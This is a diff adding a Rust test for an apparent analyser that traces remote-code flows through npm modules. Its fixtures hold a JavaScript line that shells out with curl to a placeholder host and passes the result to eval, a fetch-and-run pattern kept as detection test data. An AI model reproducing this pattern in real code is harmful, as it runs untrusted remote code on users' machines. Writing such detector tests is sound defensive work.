@@ -266,3 +266,19 @@ fn a_text_that_another_file_puts_together_is_read_to_its_end() {
     let flows = found(npm(&a, i)).flows;
     assert!(flows.iter().any(is_remote_code));
 }
+
+#[test]
+fn a_part_of_an_object_is_found_and_a_method_of_data_gives_the_data() {
+    let run = |call: &str, a: &str| {
+        let text = "require('child_process').execSync('curl https://c.invalid/b').toString()";
+        let entries = npm(
+            &a.replace("TEXT", text),
+            &format!("const a = require('./a'); require('./c')(a); eval({call})"),
+        );
+        let found = found(entries);
+        found.flows.iter().any(is_remote_code)
+    };
+    let object = "const api = { o: 1 }; for (const k of Object.keys(api)) { api[k] = TEXT } module.exports = api";
+    assert!(run("a.o", object));
+    assert!(run("a.trim()", "module.exports = TEXT"));
+}
